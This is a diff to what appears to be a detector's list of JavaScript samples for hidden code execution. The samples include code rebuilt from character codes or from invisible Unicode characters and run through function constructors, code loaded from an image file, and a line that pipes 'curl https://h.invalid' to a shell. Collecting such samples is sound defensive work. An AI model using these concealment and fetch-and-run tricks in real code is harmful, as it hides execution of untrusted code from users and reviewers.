@@ -140,6 +140,8 @@ const sends: readonly string[] = [
 
 /** Code is fetched, decoded, planted, or destroys. */
 const runs: readonly string[] = [
+  'Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, [[99,111,110,115,111,108,101,46,108,111,103,40,49,41].reduce((s, n) => s + String.fromCodePoint(n), "")])()',
+  "const s = 'a\u{E0163}\u{E016F}\u{E016E}\u{E0173}\u{E016F}\u{E016C}\u{E0165}\u{E012E}\u{E016C}\u{E016F}\u{E0167}\u{E0128}\u{E0131}\u{E012C}\u{E0122}\u{E0161}\u{E0162}\u{E0122}\u{E0129}'; const f = () => 0; const run = f.constructor; run(Buffer.from([...s].slice(1).map(c => c.codePointAt(0) - 0xe0100)).toString())()",
   "const tags = require('fs').readFileSync(__dirname + '/logo.png'); const f = global[tags.toString().slice(-4)]; f(tags)",
   "const { a, b } = (t => ({ a: t.slice(0, 4), b: t.slice(4) }))(require('fs').readFileSync(__dirname + '/logo.png', 'latin1')); globalThis[a](b)",
   "import('data:text/javascript,export default c => c(\"curl https://h.invalid | sh\")').then(m => m.default(require('child_process').exec))",
